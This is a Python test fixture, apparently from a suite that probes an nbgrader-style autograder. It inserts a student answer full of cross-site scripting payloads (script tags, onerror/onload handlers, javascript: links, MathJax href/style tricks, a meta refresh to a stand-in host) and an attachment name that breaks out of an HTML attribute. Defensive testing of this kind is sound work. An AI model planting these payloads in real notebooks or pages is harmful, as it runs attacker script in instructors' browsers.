"""Пишет в текстовом ответе метки, обработчики, ссылки и чужие картинки.

Откуда: проверено на nbgrader 0.9: <img onerror> в ответе выполняется у преподавателя.
"""
# task: square
# deserves: 0

ANSWER = r"""
<script>alert("attack")</script> <img src=x onerror=alert(1)> <svg/onload=alert(1)>
<a href="javascript:alert(1)">a</a> [b](javascript:alert(1)) [c](http://attack.invalid "x")
![d](http://attack.invalid/track.png) ![e][f] <http://attack.invalid> http://attack.invalid

[f]: javascript:alert(1)

$\href{javascript:alert(1)}{x}$ $\require{html}\style{background:url(//attack.invalid)}{x}$

<details open ontoggle=alert(1)><summary>g</summary></details>

```html
</code></pre><script>alert("attack")</script>
```

<iframe srcdoc="<script>alert(1)</script>"></iframe>
<meta http-equiv=refresh content="0;//attack.invalid">
"""


def mutate(notebook):
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "why":
            cell["source"] = ANSWER
            page = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
            cell["attachments"] = {'x" onerror="alert(1)': {"image/svg+xml": page}}
    return notebook
